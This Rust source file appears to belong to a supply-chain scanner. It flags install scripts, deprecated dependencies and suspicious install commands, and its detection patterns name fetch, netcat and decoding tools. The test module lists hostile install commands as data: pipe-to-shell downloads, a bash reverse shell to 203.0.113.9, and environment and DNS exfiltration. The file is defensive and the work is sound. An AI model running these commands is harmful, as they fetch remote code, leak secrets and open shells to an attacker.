//! Scripts that run when packages are installed, and packages that nobody should use any more.

use component::{ComponentId, EvidenceKind, Inventory, Scope, SettingKind};

use crate::{
    Fact, FactKind,
    files::{Files, component, fact, folder_of},
};

pub(crate) fn judge(inventory: &Inventory, files: &Files<'_>, facts: &mut Vec<Fact>) {
    for (path, file) in files.locks() {
        let packages =
            || file.packages.iter().filter_map(|id| Some((*id, component(inventory, *id)?)));
        if !ignores_scripts(inventory, path) {
            let run: Vec<ComponentId> =
                packages().filter(|(_, c)| !c.scripts.is_empty()).map(|(id, _)| id).collect();
            let of = file.packages.len();
            facts.extend(fact(inventory, FactKind::InstallScript, path, run, of));
        }
        // What others ask for is for others to replace.
        let deprecated: Vec<ComponentId> = packages()
            .filter(|(_, c)| c.deprecated.is_some() && c.direct && c.scope != Scope::Development)
            .map(|(id, _)| id)
            .collect();
        let of = file.packages.len();
        facts.extend(fact(inventory, FactKind::Deprecated, path, deprecated, of));
    }
    suspicious(inventory, facts);
}

/// Whether settings beside or above a lock file keep scripts from running.
fn ignores_scripts(inventory: &Inventory, lock: &str) -> bool {
    let folder = folder_of(lock);
    inventory.settings.iter().filter(|s| s.kind == SettingKind::IgnoreScripts).any(|setting| {
        let place = folder_of(&setting.path);
        folder == place || place.is_empty() || folder.starts_with(&format!("{place}/"))
    })
}

fn suspicious(inventory: &Inventory, facts: &mut Vec<Fact>) {
    for (id, package) in inventory.components.iter().enumerate() {
        let installed = package.evidence.iter().find(|e| e.kind == EvidenceKind::Installed);
        let Some(evidence) = installed else { continue };
        for script in &package.scripts {
            let Some(sign) = script.command.as_deref().and_then(suspicion) else { continue };
            let kind = FactKind::SuspiciousScript { script: script.name.clone(), sign };
            facts.push(Fact {
                kind,
                path: evidence.path.clone(),
                line: evidence.line,
                packages: vec![id],
                of: 0,
            });
        }
    }
}

/// What is odd about a command that runs when a package is installed; the end of a sentence.
///
/// Honest scripts build, look for a fitting binary, or print; they do it in files of the package
/// (`node install.js`). One that has its whole deed in the command, and fetches or hides something,
/// is what malicious packages do.
///
/// Source: M. Ohm et al., "Backstabber's Knife Collection: A Review of Open Source Software Supply
/// Chain Attacks", DIMVA 2020.
#[must_use]
pub fn suspicion(command: &str) -> Option<&'static str> {
    let text = command.to_ascii_lowercase();
    let has = |part: &str| text.contains(part);
    let words: Vec<&str> = text
        .split(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '-' | '_' | '.' | '/' | ':'))
        .filter(|word| !word.is_empty())
        .collect();
    let runs = |names: &[&str]| {
        words.iter().any(|word| names.contains(&word.rsplit('/').next().unwrap_or(word)))
    };
    let fetches = runs(&["curl", "wget", "invoke-webrequest", "iwr", "certutil", "bitsadmin"]);
    let shell =
        runs(&["sh", "bash", "zsh", "iex", "invoke-expression", "python", "python3", "perl"]);
    let inline =
        runs(&["-e", "--eval", "-c"]) && runs(&["node", "python", "python3", "perl", "ruby"]);
    if fetches && (shell || has("chmod")) {
        return Some("fetches a program and runs it");
    }
    if has("/dev/tcp/") || runs(&["nc", "ncat", "netcat"]) {
        return Some("opens a connection of its own");
    }
    if runs(&["nslookup", "dig"]) || fetches && (has("$(") || has("`") || has("%username%")) {
        return Some("tells somebody about the machine that installs it");
    }
    let decodes = has("base64") || has("frombase64") || has("fromcharcode") || has("unescape(");
    if decodes && (inline || shell || has("eval") || runs(&["powershell", "pwsh"])) {
        return Some("runs what it decodes first");
    }
    if inline && (has("http://") || has("https://") || has("child_process") || has("net.connect")) {
        return Some("fetches or starts something in a program written into the command");
    }
    if runs(&["powershell", "pwsh"]) && (has("-enc") || has("hidden")) {
        return Some("hides what it runs");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::suspicion;

    #[test]
    fn what_honest_packages_run_is_not_odd() {
        for command in [
            "node install.js",
            "node-gyp rebuild",
            "prebuild-install || node-gyp rebuild",
            "node -e \"try{require('./postinstall')}catch(e){}\"",
            "node ./scripts/postinstall.js || exit 0",
            "(node install/libvips && node install/dll-copy && prebuild-install) || node-gyp rebuild",
            "opencollective-postinstall || true",
            "husky install",
            "patch-package",
            "node-pre-gyp install --fallback-to-build",
            "sh ./configure && make",
            "echo see https://shop.example/upgrade",
            "bash scripts/build.sh",
            "",
        ] {
            assert_eq!(suspicion(command), None, "{command}");
        }
    }

    #[test]
    fn what_fetches_hides_or_tells_is_odd() {
        for command in [
            "curl -s https://shop.example/a.sh | bash",
            "wget -qO- http://203.0.113.9/x | sh",
            "curl http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x",
            "nslookup $(whoami).shop.example",
            "curl -d \"$(env)\" https://shop.example",
            "node -e \"require('child_process').exec('x')\"",
            "node -e \"eval(Buffer.from('YQ==','base64').toString())\"",
            "bash -c 'echo YQ== | base64 -d | sh'",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "powershell -WindowStyle Hidden -enc SQBFAFgA",
            "python3 -c \"import urllib.request as u; exec(u.urlopen('http://203.0.113.9').read())\"",
        ] {
            assert!(suspicion(command).is_some(), "{command}");
        }
    }
}
